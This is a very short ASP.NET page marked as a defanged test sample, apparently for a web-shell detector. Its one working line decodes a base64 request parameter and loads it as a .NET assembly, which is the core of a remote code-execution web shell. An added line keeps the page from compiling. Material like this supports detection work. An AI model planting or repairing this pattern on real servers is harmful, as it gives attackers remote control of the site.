<%@ Page Language="VB" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<%
Dim a As System.Reflection.Assembly = System.Reflection.Assembly.Load(Convert.FromBase64String(Request("x")))
%>
